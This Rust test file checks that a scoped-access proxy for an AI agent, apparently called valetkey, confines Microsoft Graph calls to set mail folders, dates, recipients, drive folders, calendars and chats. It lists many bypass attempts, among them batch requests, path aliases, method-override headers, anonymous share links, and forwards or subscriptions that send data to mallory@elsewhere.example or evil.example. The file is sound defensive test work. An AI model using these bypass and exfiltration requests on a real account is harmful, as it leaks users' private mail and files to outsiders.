//! Microsoft Graph.

mod things;

use serde_json::Value;
use valetkey::sandbox::world::content::{
    BEYOND_CALENDAR, BEYOND_CHAT, BEYOND_DATE, BEYOND_DOCUMENT, BEYOND_FOLDER, BEYOND_SENDER, BEYOND_TREE,
    BEYOND_WINDOW,
};

use crate::row::{Bounds, Row, Table, allowed, clipped, closed, malformed, spent, stopped};
use crate::stage::Stage;
use crate::try_row;

pub use things::learn;

const SCOPES: &str = "User.Read Mail.Read Mail.ReadWrite Mail.Send Calendars.Read Calendars.ReadWrite Files.Read \
                      Files.ReadWrite Sites.Read.All Chat.Read ChatMessage.Send";

#[rustfmt::skip]
const BOUNDS: &[Bounds] = &[
    Bounds {
        name: "inbox",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"mail_folders","items":["{folder:Inbox}"]}]"#,
        words: &[BEYOND_FOLDER],
    },
    Bounds {
        name: "autumn",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"mail_dates","from":"2026-10-01T00:00:00Z"}]"#,
        words: &[BEYOND_DATE],
    },
    Bounds {
        name: "colleagues",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"senders","allow":["@example.com"]}]"#,
        words: &[BEYOND_SENDER],
    },
    Bounds {
        name: "company",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"recipients","domains":["example.com"]}]"#,
        words: &[],
    },
    Bounds {
        name: "tree",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"folders","items":["{file:Projects/2026}"]}]"#,
        words: &[BEYOND_TREE],
    },
    Bounds {
        name: "plan",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"documents","items":["{file:Projects/2026/plan.md}"]}]"#,
        words: &[BEYOND_DOCUMENT],
    },
    Bounds {
        name: "work",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"calendars","items":["{calendar:Work}"]}]"#,
        words: &[BEYOND_CALENDAR],
    },
    Bounds {
        name: "november",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"events","from":"2026-11-01T00:00:00Z","until":"2026-12-01T00:00:00Z"}]"#,
        words: &[BEYOND_WINDOW],
    },
    Bounds {
        name: "alpha",
        details: r#"[{"type":"valetkey_limit","api":"graph","kind":"chats","items":["{chat:Project Alpha}"]}]"#,
        words: &[BEYOND_CHAT],
    },
    Bounds { name: "few", details: r#"[{"type":"valetkey_limit","kind":"calls","most":1,"per":"day"}]"#, words: &[] },
    Bounds { name: "single", details: r#"[{"type":"valetkey_limit","kind":"once"}]"#, words: &[] },
    Bounds { name: "two", details: r#"[{"type":"valetkey_limit","kind":"items","most":2}]"#, words: &[] },
    Bounds { name: "little", details: r#"[{"type":"valetkey_limit","kind":"bytes","most":64}]"#, words: &[] },
    Bounds { name: "noon", details: r#"[{"type":"valetkey_limit","kind":"hours","from":"11:00","until":"14:00"}]"#, words: &[] },
    Bounds { name: "evening", details: r#"[{"type":"valetkey_limit","kind":"hours","from":"18:00","until":"20:00"}]"#, words: &[] },
    Bounds { name: "look", details: r#"[{"type":"valetkey_limit","kind":"read_only"}]"#, words: &[] },
];

pub fn table() -> Table {
    let rows = [mail(), sending(), files(), writing_files(), calendars(), chats(), budgets()].concat();
    Table { provider: "entra", api: "entra/graph", scopes: SCOPES, bounds: BOUNDS, rows }
}

const TO_MALLORY: &str = r#"{"toRecipients":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}"#;

#[rustfmt::skip] // A table reads by its lines.
fn budgets() -> Vec<Row> {
    vec![
        allowed("few", "GET /v1.0/me"),
        spent("few", "GET /v1.0/me"),
        allowed("single", "GET /v1.0/me"),
        spent("single", "GET /v1.0/me"),
        allowed("two", "GET /v1.0/me/mailFolders/inbox/messages?$top=2"),
        spent("two", "GET /v1.0/me/mailFolders/inbox/messages?$top=2"),
        spent("two", "GET /v1.0/me/mailFolders/inbox/messages?$top=10"),
        spent("little", "GET /v1.0/me/messages?$top=10"),
        allowed("noon", "GET /v1.0/me"),
        spent("evening", "GET /v1.0/me"),
        malformed("look", "body", "GET /v1.0/me").body("{}"),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn mail() -> Vec<Row> {
    vec![
        // Inside.
        allowed("inbox", "GET /v1.0/me/mailFolders/inbox/messages?$top=50"),
        allowed("inbox", "GET /v1.0/me/messages/{mail:Your recovery codes}"),
        allowed("inbox", "GET /v1.0/me/mailFolders/{folder:Inbox}"),
        allowed("autumn", "GET /v1.0/me/messages/{mail:Agenda for Friday}"),
        allowed("autumn", "GET /v1.0/me/messages/{mail:Beta feedback, second round}"),
        allowed("autumn", "GET /v1.0/me/messages?$filter=isRead%20eq%20false&$select=subject"),
        allowed("colleagues", "GET /v1.0/me/messages/{mail:Your recovery codes}?$select=subject"),
        // Another folder.
        stopped("inbox", "other folder", "GET /v1.0/me/messages/{mail:Booking confirmed}"),
        stopped("inbox", "other folder", "GET /v1.0/me/mailFolders/{folder:Archive}/messages"),
        stopped("inbox", "other folder", "GET /v1.0/me/mailFolders/sentitems/messages"),
        stopped("inbox", "other folder", "GET /v1.0/me/mailFolders/{folder:Projects}/childFolders"),
        stopped("inbox", "other folder", "GET /v1.0/me/messages/{mail:Project Alpha: contract draft}/attachments"),
        stopped("inbox", "other folder", "GET /v1.0/me/mailFolders/inbox/messages/{mail:Booking confirmed}")
            .undocumented(),
        clipped("inbox", "other folder", "GET /v1.0/me/messages?$top=100"),
        stopped("inbox", "filter", "GET /v1.0/me/messages?$filter=contains(subject,'Booking')%20or%20isRead%20eq%20true&$top=100"),
        stopped("inbox", "search", "GET /v1.0/me/messages?$search=%22Booking%22"),
        // Within the folder that the limit names a search finds nothing else.
        allowed("inbox", "GET /v1.0/me/mailFolders/inbox/messages?$search=%22codes%22"),
        stopped("colleagues", "search", "GET /v1.0/me/mailFolders/inbox/messages?$search=%22statement%22"),
        stopped("autumn", "search", "GET /v1.0/me/mailFolders/inbox/messages?$search=%22recovery%22"),
        stopped("autumn", "filter", "GET /v1.0/me/messages?$filter=contains(subject,'recovery')&$orderby=subject").undocumented(),
        clipped("inbox", "other folder", "GET /v1.0/me/mailFolders?$top=100"),
        stopped("inbox", "delta", "GET /v1.0/me/mailFolders/{folder:Archive}/messages/delta"),
        stopped("inbox", "delta", "GET /v1.0/me/mailFolders/delta"),
        // Another date.
        stopped("autumn", "other date", "GET /v1.0/me/messages/{mail:Your recovery codes}"),
        stopped("autumn", "other date", "GET /v1.0/me/mailFolders/inbox/messages/{mail:Your recovery codes}"),
        stopped("autumn", "other date", "GET /v1.0/me/messages/{mail:Invoice 2026-0609}/attachments"),
        clipped("autumn", "other date", "GET /v1.0/me/messages?$top=100"),
        clipped("autumn", "other date", "GET /v1.0/me/messages?$orderby=receivedDateTime&$top=20"),
        clipped("autumn", "paging", "GET /v1.0/me/messages?$skip=10&$top=10&$orderby=receivedDateTime%20desc"),
        clipped("autumn", "filter", "GET /v1.0/me/messages?$filter=receivedDateTime%20lt%202026-08-01T00:00:00Z%20or%20isRead%20eq%20true&$top=50"),
        stopped("autumn", "search", "GET /v1.0/me/messages?$search=%22recovery%22"),
        clipped("autumn", "delta", "GET /v1.0/me/mailFolders/inbox/messages/delta"),
        clipped("autumn", "narrowed fields", "GET /v1.0/me/mailFolders/inbox/messages?$select=subject&$top=50"),
        // Another sender.
        stopped("colleagues", "other sender", "GET /v1.0/me/messages/{mail:Your statement for October}"),
        clipped("colleagues", "other sender", "GET /v1.0/me/mailFolders/inbox/messages?$top=50"),
        stopped("colleagues", "filter", "GET /v1.0/me/messages?$filter=from/emailAddress/address%20eq%20'bank@bank.example'"),
        clipped("colleagues", "narrowed fields", "GET /v1.0/me/messages?$select=body&$top=100"),
        // Other ways in.
        closed("inbox", "batch", "POST /v1.0/$batch")
            .body(r#"{"requests":[{"id":"1","method":"GET","url":"/me/messages/{mail:Booking confirmed}"}]}"#),
        closed("autumn", "batch", "POST /v1.0/$batch")
            .body(r#"{"requests":[{"id":"1","method":"GET","url":"/me/mailFolders/inbox/messages?$top=100"}]}"#),
        closed("inbox", "search", "POST /v1.0/search/query")
            .body(r#"{"requests":[{"entityTypes":["message"],"query":{"queryString":"Booking"}}]}"#),
        closed("inbox", "expand", "GET /v1.0/me/messages/{mail:Project Alpha: contract draft}?$expand=attachments"),
        closed("inbox", "expand", "GET /v1.0/me/mailFolders?$expand=childFolders"),
        closed("inbox", "alias", "GET /v1.0/users/alice@example.com/messages/{mail:Booking confirmed}"),
        closed("autumn", "alias", "GET /v1.0/users/{me}/mailFolders/inbox/messages?$top=100"),
        closed("inbox", "key syntax", "GET /v1.0/me/mailFolders('archive')/messages"),
        closed("inbox", "key syntax", "GET /v1.0/me/messages('{mail:Booking confirmed}')"),
        stopped("inbox", "case", "GET /v1.0/ME/mailfolders/ARCHIVE/Messages"),
        closed("inbox", "beta", "GET /beta/me/messages/{mail:Booking confirmed}"),
        closed("inbox", "subscription", "POST /v1.0/subscriptions").body(
            r#"{"resource":"me/messages","changeType":"created","notificationUrl":"https://evil.example/","expirationDateTime":"2026-12-01T00:00:00Z"}"#,
        ),
        closed("inbox", "raw message", "GET /v1.0/me/messages/{mail:Booking confirmed}/$value"),
        closed("inbox", "method override", "POST /v1.0/me/mailFolders/{folder:Archive}")
            .header("X-HTTP-Method-Override", "DELETE").undocumented(),
        stopped("inbox", "move and copy", "POST /v1.0/me/messages/{mail:Booking confirmed}/copy")
            .body(r#"{"destinationId":"inbox"}"#),
        stopped("inbox", "move and copy", "POST /v1.0/me/messages/{mail:Booking confirmed}/move")
            .body(r#"{"destinationId":"{folder:Inbox}"}"#),
        stopped("inbox", "move and copy", "POST /v1.0/me/messages/{mail:Agenda for Friday}/move")
            .body(r#"{"destinationId":"deleteditems"}"#),
        stopped("autumn", "move and copy", "POST /v1.0/me/messages/{mail:Your recovery codes}/copy")
            .body(r#"{"destinationId":"drafts"}"#),
        closed("inbox", "move and copy", "POST /v1.0/me/mailFolders/{folder:Archive}/move")
            .body(r#"{"destinationId":"inbox"}"#),
        malformed("inbox", "said twice", "POST /v1.0/me/messages/{mail:Agenda for Friday}/move")
            .body(r#"{"destinationId":"inbox","destinationId":"archive"}"#),
        malformed("autumn", "said twice", "GET /v1.0/me/messages?$filter=isRead%20eq%20true&$filter=isRead%20eq%20false&$top=50"),
        malformed("autumn", "said twice", "GET /v1.0/me/messages?$top=5&%24top=50&$filter=isRead%20eq%20true&%2524filter=x"),
        stopped("inbox", "other folder", "DELETE /v1.0/me/messages/{mail:Booking confirmed}"),
        stopped("look", "write", "DELETE /v1.0/me/messages/{mail:Booking confirmed}"),
        stopped("look", "write", "PATCH /v1.0/me/messages/{mail:Agenda for Friday}").body(r#"{"isRead":true}"#),
        allowed("look", "GET /v1.0/me/messages?$top=3"),
        // A draft of one's own is a way out for what it quotes.
        closed("autumn", "forward and reply", "POST /v1.0/me/messages/{mail:Your recovery codes}/createForward")
            .body(TO_MALLORY),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn sending() -> Vec<Row> {
    vec![
        allowed("company", "POST /v1.0/me/sendMail").body(
            r#"{"message":{"subject":"Hi","body":{"content":"x"},"toRecipients":[{"emailAddress":{"address":"bob@example.com"}}]}}"#,
        ),
        stopped("company", "other recipient", "POST /v1.0/me/sendMail").body(
            r#"{"message":{"subject":"Hi","toRecipients":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}}"#,
        ),
        stopped("company", "other recipient", "POST /v1.0/me/sendMail").body(
            r#"{"message":{"toRecipients":[{"emailAddress":{"address":"bob@example.com"}}],"bccRecipients":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}}"#,
        ),
        stopped("company", "other recipient", "POST /v1.0/me/sendMail").body(
            r#"{"message":{"toRecipients":[{"emailAddress":{"address":"x@sub.example.com"}}]}}"#,
        ),
        stopped("company", "forward and reply", "POST /v1.0/me/messages/{mail:Agenda for Friday}/forward")
            .body(TO_MALLORY),
        stopped("company", "forward and reply", "POST /v1.0/me/messages/{mail:Your statement for October}/reply")
            .body(r#"{"comment":"here is what you asked for"}"#),
        stopped("company", "forward and reply", "POST /v1.0/me/messages/{mail:Agenda for Friday}/reply").body(
            r#"{"comment":"x","message":{"toRecipients":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}}"#,
        ),
        closed("company", "forward and reply", "POST /v1.0/me/messages/{mail:Your statement for October}/replyAll")
            .body(r#"{"comment":"x"}"#),
        stopped("inbox", "forward and reply", "POST /v1.0/me/messages/{mail:Booking confirmed}/forward")
            .body(r#"{"toRecipients":[{"emailAddress":{"address":"bob@example.com"}}]}"#),
        stopped("autumn", "forward and reply", "POST /v1.0/me/messages/{mail:Your recovery codes}/forward")
            .body(r#"{"toRecipients":[{"emailAddress":{"address":"bob@example.com"}}]}"#),
        stopped("colleagues", "forward and reply", "POST /v1.0/me/messages/{mail:Your statement for October}/reply")
            .body(r#"{"comment":"x"}"#),
        stopped("company", "other recipient", "POST /v1.0/me/messages/{mail:Thoughts on pricing}/send"),
        stopped("company", "other recipient", "PATCH /v1.0/me/messages/{mail:Thoughts on pricing}").body(TO_MALLORY),
        stopped("company", "other recipient", "POST /v1.0/me/messages").body(TO_MALLORY),
        closed("company", "batch", "POST /v1.0/$batch").body(
            r#"{"requests":[{"id":"1","method":"POST","url":"/me/sendMail","headers":{"Content-Type":"application/json"},"body":{"message":{"toRecipients":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}}}]}"#,
        ).acting(),
        stopped("look", "write", "POST /v1.0/me/sendMail").body(
            r#"{"message":{"toRecipients":[{"emailAddress":{"address":"bob@example.com"}}]}}"#,
        ),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn files() -> Vec<Row> {
    vec![
        allowed("tree", "GET /v1.0/me/drive/items/{file:Projects/2026}/children"),
        allowed("tree", "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}"),
        allowed("tree", "GET /v1.0/me/drive/items/{file:Projects/2026/Alpha/Design/sketch.md}/content"),
        allowed("tree", "GET /v1.0/me/drive/items/{file:Projects/2026/Alpha/Design}/children"),
        allowed("plan", "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}/content"),
        stopped("tree", "other folder", "GET /v1.0/me/drive/items/{file:Private/diary.txt}"),
        stopped("tree", "other folder", "GET /v1.0/me/drive/items/{file:Projects/2025}/children"),
        stopped("tree", "other folder", "GET /v1.0/me/drive/items/{file:Projects/2025/report.md}/versions"),
        stopped("tree", "redirect", "GET /v1.0/me/drive/items/{file:Private/tax-return.txt}/content"),
        stopped("tree", "redirect", "GET /v1.0/me/drive/items/{file:Private/diary.txt}/versions/1.0/content"),
        stopped("tree", "preview", "GET /v1.0/me/drive/items/{file:Private/diary.txt}/thumbnails"),
        stopped("tree", "other folder", "GET /v1.0/me/drive/items/{file:Projects}/children"),
        clipped("tree", "other folder", "GET /v1.0/me/drive/root/children"),
        clipped("tree", "delta", "GET /v1.0/me/drive/root/delta"),
        clipped("tree", "other folder", "GET /v1.0/me/drive/recent"),
        stopped("tree", "other folder", "GET /v1.0/me/drive/special/Private"),
        clipped("tree", "other folder", "GET /v1.0/me/drive/special/Private/children"),
        clipped("tree", "narrowed fields", "GET /v1.0/me/drive/root/delta?$select=name"),
        stopped("plan", "other document", "GET /v1.0/me/drive/items/{file:Projects/2026/budget.csv}"),
        stopped("plan", "redirect", "GET /v1.0/me/drive/items/{file:Projects/2026/budget.csv}/content"),
        clipped("plan", "other document", "GET /v1.0/me/drive/root/delta"),
        closed("tree", "batch", "POST /v1.0/$batch")
            .body(r#"{"requests":[{"id":"1","method":"GET","url":"/me/drive/items/{file:Private/diary.txt}"}]}"#),
        closed("tree", "search", "GET /v1.0/me/drive/root/search(q='diary')"),
        closed("tree", "search", "POST /v1.0/search/query")
            .body(r#"{"requests":[{"entityTypes":["driveItem"],"query":{"queryString":"diary"}}]}"#),
        closed("tree", "expand", "GET /v1.0/me/drive/root?$expand=children"),
        closed("tree", "alias", "GET /v1.0/users/alice@example.com/drive/items/{file:Private/diary.txt}"),
        closed("tree", "drive by id", "GET /v1.0/drives/{drive:mine}/items/{file:Private/diary.txt}"),
        closed("tree", "drive by id", "GET /v1.0/drives/{drive:mine}/root/delta"),
        closed("tree", "drive by id", "GET /v1.0/drives/{drive:mine}/root:/Private:/children"),
        closed("tree", "by path", "GET /v1.0/me/drive/root:/Private/diary.txt"),
        closed("tree", "by path", "GET /v1.0/me/drive/root:/Private:/children"),
        closed("tree", "by path", "GET /v1.0/me/drive/items/{file:Projects}:/2025/report.md"),
        closed("tree", "share link", "GET /v1.0/shares/{share:Private/diary.txt}/driveItem/content"),
        closed("tree", "beta", "GET /beta/me/drive/items/{file:Private/diary.txt}"),
        closed("tree", "copilot", "POST /v1.0/copilot/retrieval").body(r#"{"queryString":"diary","dataSource":"oneDriveBusiness"}"#),
        closed("tree", "subscription", "POST /v1.0/subscriptions").body(
            r#"{"resource":"me/drive/root","changeType":"updated","notificationUrl":"https://evil.example/","expirationDateTime":"2026-12-01T00:00:00Z"}"#,
        ),
        closed("tree", "preview", "POST /v1.0/me/drive/items/{file:Private/diary.txt}/preview").body("{}"),
        // Shortcuts.
        stopped("tree", "shortcut", "GET /v1.0/me/drive/items/{file:Projects/2026/Team plans}/children").undocumented(),
        closed("tree", "shortcut", "GET /v1.0/drives/{drive:team}/items/{team:Team plans}/children"),
        closed("tree", "shortcut", "GET /v1.0/sites/{site:team}/drive/items/{team:hiring.md}/content"),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn writing_files() -> Vec<Row> {
    vec![
        allowed("tree", "PUT /v1.0/me/drive/items/{file:Projects/2026/plan.md}/content").body(r#"{"new":"plan"}"#),
        allowed("tree", "POST /v1.0/me/drive/items/{file:Projects/2026}/children")
            .body(r#"{"name":"Notes","folder":{}}"#),
        stopped("tree", "other folder", "PUT /v1.0/me/drive/items/{file:Private/diary.txt}/content").body(r#"{"x":1}"#),
        stopped("tree", "other folder", "DELETE /v1.0/me/drive/items/{file:Private/diary.txt}"),
        stopped("tree", "other folder", "POST /v1.0/me/drive/root/children").body(r#"{"name":"New","folder":{}}"#),
        stopped("tree", "move and copy", "PATCH /v1.0/me/drive/items/{file:Private/diary.txt}")
            .body(r#"{"parentReference":{"id":"{file:Projects/2026}"}}"#),
        stopped("tree", "move and copy", "PATCH /v1.0/me/drive/items/{file:Projects/2026/plan.md}")
            .body(r#"{"parentReference":{"id":"{file:Private}"}}"#),
        stopped("tree", "move and copy", "POST /v1.0/me/drive/items/{file:Private/diary.txt}/copy")
            .body(r#"{"parentReference":{"id":"{file:Projects/2026}"},"name":"copy.txt"}"#),
        stopped("tree", "move and copy", "POST /v1.0/me/drive/items/{file:Projects/2026/plan.md}/copy")
            .body(r#"{"parentReference":{"driveId":"{drive:mine}","id":"{file:Private}"}}"#),
        stopped("tree", "move and copy", "PATCH /v1.0/me/drive/items/{file:Projects/2026}")
            .body(r#"{"parentReference":{"id":"{file:Private}"}}"#),
        stopped("tree", "move and copy", "POST /v1.0/me/drive/items/{file:Projects/2026}/copy").body(r#"{"name":"Beside"}"#),
        closed("tree", "share link", "POST /v1.0/me/drive/items/{file:Projects/2026/plan.md}/createLink")
            .body(r#"{"type":"view","scope":"anonymous"}"#),
        closed("tree", "invite", "POST /v1.0/me/drive/items/{file:Projects/2026/plan.md}/invite")
            .body(r#"{"recipients":[{"email":"mallory@elsewhere.example"}],"roles":["read"]}"#),
        closed("tree", "upload session", "POST /v1.0/me/drive/items/{file:Private}:/new.txt:/createUploadSession")
            .body("{}"),
        closed("tree", "upload session", "POST /v1.0/me/drive/items/{file:Private/diary.txt}/createUploadSession")
            .body("{}"),
        stopped("look", "write", "DELETE /v1.0/me/drive/items/{file:Projects/2026/plan.md}"),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn calendars() -> Vec<Row> {
    vec![
        allowed("work", "GET /v1.0/me/calendars/{calendar:Work}/events"),
        allowed("work", "GET /v1.0/me/calendars/{calendar:Work}/calendarView?startDateTime=2026-11-01&endDateTime=2026-12-31"),
        allowed("work", "GET /v1.0/me/events/{event:Stand-up@2026-11-24}"),
        allowed("november", "GET /v1.0/me/events/{event:Customer visit@2026-11-25}"),
        allowed("november", "GET /v1.0/me/calendar/calendarView?startDateTime=2026-11-10&endDateTime=2026-11-20"),
        stopped("work", "other calendar", "GET /v1.0/me/calendars/{calendar:Family}/events"),
        stopped("work", "other calendar", "GET /v1.0/me/calendar/events"),
        stopped("work", "other calendar", "GET /v1.0/me/events/{event:Dentist@2026-11-24}"),
        stopped("work", "other calendar", "GET /v1.0/me/calendars/{calendar:Work}/events/{event:Dentist@2026-11-24}").undocumented(),
        clipped("work", "other calendar", "GET /v1.0/me/calendars"),
        stopped("work", "delta", "GET /v1.0/me/calendarView/delta?startDateTime=2026-11-01&endDateTime=2026-12-01"),
        stopped("work", "other calendar", "POST /v1.0/me/calendar/getSchedule").body(
            r#"{"schedules":["alice@example.com"],"startTime":{"dateTime":"2026-01-01T00:00:00"},"endTime":{"dateTime":"2026-12-31T00:00:00"}}"#,
        ).undocumented(),
        closed("work", "search", "POST /v1.0/search/query")
            .body(r#"{"requests":[{"entityTypes":["event"],"query":{"queryString":"Dentist"}}]}"#),
        closed("work", "alias", "GET /v1.0/users/alice@example.com/calendars/{calendar:Family}/events"),
        closed("work", "batch", "POST /v1.0/$batch")
            .body(r#"{"requests":[{"id":"1","method":"GET","url":"/me/calendars/{calendar:Family}/events"}]}"#),
        closed("work", "other calendar", "GET /v1.0/me/calendarGroups/AQMkGroup1/calendars/{calendar:Family}/events"),
        stopped("november", "other window", "GET /v1.0/me/events/{event:Kick-off for the year@2026-01-12}"),
        clipped("november", "other window", "GET /v1.0/me/events?$top=50"),
        clipped("november", "other window", "GET /v1.0/me/calendar/calendarView?startDateTime=2026-01-01&endDateTime=2026-12-31&$top=50"),
        clipped("november", "delta", "GET /v1.0/me/calendarView/delta?startDateTime=2026-01-01&endDateTime=2026-12-31"),
        closed("november", "forward and reply", "POST /v1.0/me/events/{event:Kick-off for the year@2026-01-12}/forward").body(TO_MALLORY),
        stopped("november", "other window", "DELETE /v1.0/me/events/{event:Kick-off for the year@2026-01-12}"),
        stopped("november", "other window", "POST /v1.0/me/events/{event:Kick-off for the year@2026-01-12}/accept").body("{}"),
        stopped("november", "other window", "POST /v1.0/me/events").body(
            r#"{"subject":"x","start":{"dateTime":"2026-08-01T10:00:00","timeZone":"UTC"},"end":{"dateTime":"2026-08-01T11:00:00","timeZone":"UTC"}}"#,
        ),
        stopped("november", "other window", "PATCH /v1.0/me/events/{event:Customer visit@2026-11-25}").body(
            r#"{"start":{"dateTime":"2026-08-01T10:00:00","timeZone":"UTC"},"end":{"dateTime":"2026-08-01T11:00:00","timeZone":"UTC"}}"#,
        ),
        stopped("company", "other recipient", "POST /v1.0/me/events").body(
            r#"{"subject":"x","start":{"dateTime":"2026-11-28T10:00:00","timeZone":"UTC"},"end":{"dateTime":"2026-11-28T11:00:00","timeZone":"UTC"},"attendees":[{"emailAddress":{"address":"mallory@elsewhere.example"}}]}"#,
        ),
    ]
}

#[rustfmt::skip] // A table reads by its lines.
fn chats() -> Vec<Row> {
    vec![
        allowed("alpha", "GET /v1.0/chats/{chat:Project Alpha}/messages"),
        allowed("alpha", "POST /v1.0/chats/{chat:Project Alpha}/messages").body(r#"{"body":{"content":"hello"}}"#),
        stopped("alpha", "other chat", "GET /v1.0/chats/{chat:Product only}/messages"),
        stopped("alpha", "other chat", "GET /v1.0/me/chats/{chat:Product only}/messages/{message:Product only}"),
        stopped("alpha", "other chat", "POST /v1.0/chats/{chat:Product only}/messages").body(r#"{"body":{"content":"x"}}"#),
        clipped("alpha", "other chat", "GET /v1.0/me/chats"),
        closed("alpha", "expand", "GET /v1.0/me/chats?$expand=lastMessagePreview"),
        closed("alpha", "search", "POST /v1.0/search/query")
            .body(r#"{"requests":[{"entityTypes":["chatMessage"],"query":{"queryString":"Product"}}]}"#),
        closed("alpha", "alias", "GET /v1.0/users/alice@example.com/chats/{chat:Product only}/messages"),
        closed("alpha", "key syntax", "GET /v1.0/chats('{chat:Product only}')/messages"),
        closed("alpha", "batch", "POST /v1.0/$batch")
            .body(r#"{"requests":[{"id":"1","method":"GET","url":"/chats/{chat:Product only}/messages"}]}"#),
    ]
}

#[actix_web::test]
async fn nothing_gets_out_of_a_limit_at_graph() {
    let table = table();
    let mut stage = Stage::of(&table).await;
    learn(&mut stage).await;
    let outcomes = try_row::all(&table, &mut stage).await;
    assert!(outcomes.len() >= 60);
    stage.app.stops().await;
    try_row::hold(&outcomes);
}

/// What opens without a token never reaches the agent, and works for whoever has it.
#[actix_web::test]
async fn an_address_that_needs_no_token_is_not_given_out() {
    let table = table();
    let mut stage = Stage::of(&table).await;
    learn(&mut stage).await;
    let path = stage.filled("/v1.0/me/drive/items/{file:Projects/2026/plan.md}");
    let raw = stage.raw_json(&format!("GET {path}"), &Value::Null).await;
    let address = raw["@microsoft.graph.downloadUrl"].as_str().unwrap();
    let opened = stage.opened_by_anybody(address, &[]).await;
    assert_eq!(opened.status, 200);
    assert!(opened.body_text().contains("Ship the beta"));
    for bounds in ["tree", "look"] {
        let bounds = BOUNDS.iter().find(|b| b.name == bounds).unwrap();
        for call in [
            "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}",
            "GET /v1.0/me/drive/items/{file:Projects/2026}/children",
            "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}/content",
            "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}/versions",
            "GET /v1.0/me/drive/items/{file:Projects/2026/plan.md}/thumbnails",
        ] {
            let row = allowed(bounds.name, call);
            let answer = stage.through(bounds, &row).await;
            let text = format!("{}{}", answer.head, answer.body_text());
            assert!(answer.status < 300, "{call}: {}", answer.body_text());
            assert!(!text.contains("tempauth"), "{call}: {text}");
        }
    }
    stage.app.stops().await;
}
